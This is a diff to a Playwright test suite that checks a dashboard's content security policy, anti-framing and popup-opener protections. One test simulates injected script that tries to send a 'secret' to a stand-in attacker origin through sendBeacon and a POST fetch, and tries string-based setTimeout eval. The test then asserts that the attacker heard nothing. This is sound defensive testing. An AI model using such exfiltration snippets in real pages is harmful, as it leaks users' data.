@@ -4,7 +4,7 @@ import { expect, rulesBroken, startApp, test } from './visit.ts'
 
 test.describe.configure({ mode: 'default' })
 
-test('everything works under the content policy: popup, fonts, pages, frame, camera, download (P-222)', async ({
+test('everything works under the content policy: popup, fonts, pages, frame, camera, download (P-260)', async ({
   visit,
 }) => {
   const { page } = visit
@@ -41,7 +41,7 @@ test('everything works under the content policy: popup, fonts, pages, frame, cam
   expect(problems).toEqual([])
 })
 
-test('what a project or a tool says is text, and what is smuggled in does not run (P-222)', async ({
+test('what a project or a tool says is text, and what is smuggled in does not run (P-260)', async ({
   stage,
   visit,
 }) => {
@@ -82,6 +82,7 @@ test('what a project or a tool says is text, and what is smuggled in does not ru
     navigator.sendBeacon(`${evil}/beacon`, 'secret')
     fetch(`${evil}/fetch`, { method: 'POST', body: 'secret' }).catch(() => undefined)
     try {
+      // oxlint-disable-next-line typescript/no-implied-eval -- what a smuggled script would try
       setTimeout('window.smuggled = 1', 0)
     } catch {
       // refused at once is refused
@@ -106,7 +107,7 @@ test('what a project or a tool says is text, and what is smuggled in does not ru
   expect(stage.evil.heard).toEqual(before)
 })
 
-test('nobody frames the dashboard, and who opens it loses hold of it (P-222)', async ({ page, stage }) => {
+test('nobody frames the dashboard, and who opens it loses hold of it (P-260)', async ({ page, stage }) => {
   await page.goto(stage.evil.origin)
   await page.evaluate((url) => {
     const frame = document.createElement('iframe')
@@ -121,7 +122,7 @@ test('nobody frames the dashboard, and who opens it loses hold of it (P-222)', a
       .find((one) => one !== page) ?? (await page.waitForEvent('popup'))
   await expect(popup.getByRole('button', { name: 'Continue with Google' })).toBeVisible()
   await expect.poll(() => page.evaluate(() => (Reflect.get(window, 'opened') as Window).closed)).toBe(true)
-  expect(await popup.evaluate(() => window.opener)).toBeNull()
+  expect(await popup.evaluate(() => window.opener === null)).toBe(true)
   const framed = page.frames().find((frame) => frame !== page.mainFrame())
   await expect.poll(() => framed?.url()).toBe('chrome-error://chromewebdata/')
 })
